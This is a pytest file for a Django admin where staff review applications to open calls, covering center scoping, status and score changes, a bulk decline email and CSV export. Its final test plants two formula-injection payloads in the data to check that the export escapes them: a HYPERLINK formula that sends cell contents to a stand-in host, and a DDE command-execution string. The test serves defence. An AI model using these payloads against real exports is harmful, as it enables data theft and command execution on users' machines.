"""Reviewing applications in the admin: scoped to the staff's center, status, scores, bulk
decline with a mailed message, the files and a safe export."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.files.base import ContentFile
from django.urls import reverse

from opencalls.models import Application, ApplicationAttachment, CallIndexPage
from roles.groups import department_group
from tests.factories import ApplicationFactory, OpenCallPageFactory

pytestmark = pytest.mark.django_db


def call_of(center, slug):
    call = OpenCallPageFactory(
        parent=CallIndexPage.objects.child_of(center).get(), slug=slug, title=f"Gọi {slug}"
    )
    call.save_revision().publish()
    return call


def staff(name, group):
    user = get_user_model().objects.create_user(name, f"{name}@example.vn", "pw")
    user.groups.add(group)
    return user


@pytest.fixture
def world(center_factory):
    alpha = center_factory(slug="alpha", title="Trung tâm Alpha")
    beta = center_factory(slug="beta", title="Trung tâm Beta")
    call_a, call_b = call_of(alpha, "goi-a"), call_of(beta, "goi-b")
    application = ApplicationFactory(call=call_a, name="Ứng viên Alpha", email="a@example.vn")
    attachment = ApplicationAttachment(
        application=application, original_name="ho-so.pdf", file_type="pdf", size=9
    )
    attachment.file.save("pdf.pdf", ContentFile(b"%PDF-1.4\n"), save=True)
    return {
        "call_a": call_a,
        "application": application,
        "other": ApplicationFactory(call=call_b, name="Ứng viên Beta", email="b@example.vn"),
        "attachment": attachment,
        "staff_a": staff("staff_a", alpha.editors_group),
        "staff_b": staff("staff_b", beta.editors_group),
        "department": staff("so", department_group()),
    }


def urls(world):
    application, attachment = world["application"], world["attachment"]
    return {
        "edit": reverse("applications:edit", args=[application.pk]),
        "inspect": reverse("applications:inspect", args=[application.pk]),
        "file": reverse("applications:attachment", args=[application.pk, attachment.pk]),
    }


def test_another_centers_staff_cannot_list_open_download_or_export_it(client, world):
    client.force_login(world["staff_b"])
    listing = client.get(reverse("applications:index")).content.decode()
    assert "Ứng viên Beta" in listing and "Ứng viên Alpha" not in listing
    for url in urls(world).values():
        assert client.get(url).status_code == 404
    export = client.get(reverse("applications:index"), {"export": "csv"})
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    assert "Ứng viên Beta" in text and "Ứng viên Alpha" not in text
    client.post(urls(world)["edit"], {"status": "declined", "notes": "x"})
    assert Application.objects.get(pk=world["application"].pk).status == "received"


def test_own_staff_and_the_department_open_it_and_its_file(client, world):
    for role in ("staff_a", "department"):
        client.force_login(world[role])
        assert "Ứng viên Alpha" in client.get(urls(world)["edit"]).content.decode()
        response = client.get(urls(world)["file"])
        assert response.status_code == 200
        assert b"".join(response.streaming_content).startswith(b"%PDF")
        assert response["Content-Disposition"].startswith("attachment")
    listing = client.get(reverse("applications:index")).content.decode()
    assert "Ứng viên Alpha" in listing and "Ứng viên Beta" in listing


def edit(client, world, **data):
    return client.post(urls(world)["edit"], {"status": "received", "notes": "", **data})


def test_status_goes_received_shortlisted_accepted_with_notes_and_scores(client, world):
    client.force_login(world["staff_a"])
    (criterion,) = world["call_a"].criteria_list()
    score = f"score_{criterion[0]}"
    assert edit(client, world, status="accepted").status_code == 200  # not shortlisted yet
    assert Application.objects.get(pk=world["application"].pk).status == "received"
    assert (
        edit(client, world, status="shortlisted", notes="Hồ sơ tốt", **{score: "11"}).status_code
        == 200
    )
    response = edit(client, world, status="shortlisted", notes="Hồ sơ tốt", **{score: "8"})
    assert response.status_code == 302
    application = Application.objects.get(pk=world["application"].pk)
    assert (application.status, application.notes) == ("shortlisted", "Hồ sơ tốt")
    assert application.scores == {criterion[0]: 8} and application.total_score == 8
    assert edit(client, world, status="accepted", **{score: "8"}).status_code == 302
    assert Application.objects.get(pk=world["application"].pk).status == "accepted"


def test_bulk_decline_mails_the_message_and_ignores_another_centers_rows(client, world):
    client.force_login(world["staff_a"])
    url = reverse("applications:decline")
    page = client.get(url).content.decode()
    assert "Ứng viên Alpha" in page and "Ứng viên Beta" not in page
    mail.outbox.clear()
    response = client.post(
        url,
        {
            "applications": [world["application"].pk, world["other"].pk],
            "message": "Cảm ơn bạn, hẹn gặp lại ở đợt sau.",
        },
    )
    assert response.status_code == 200  # another center's row is not a choice
    assert Application.objects.filter(status="declined").count() == 0
    response = client.post(
        url,
        {"applications": [world["application"].pk], "message": "Cảm ơn bạn, hẹn gặp lại."},
    )
    assert response.status_code == 302
    application = Application.objects.get(pk=world["application"].pk)
    assert application.status == "declined" and application.decision_status == "sent"
    (message,) = mail.outbox
    assert message.to == ["a@example.vn"] and "Cảm ơn bạn, hẹn gặp lại." in message.body
    assert Application.objects.get(pk=world["other"].pk).status == "received"


def test_export_cells_are_safe(client, world):
    Application.objects.filter(pk=world["application"].pk).update(
        name='=HYPERLINK("http://x/?"&A1,"Bấm")', notes="+cmd|' /C calc'!A0"
    )
    client.force_login(world["staff_a"])
    response = client.get(reverse("applications:index"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://x/?"&A1,"Bấm")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
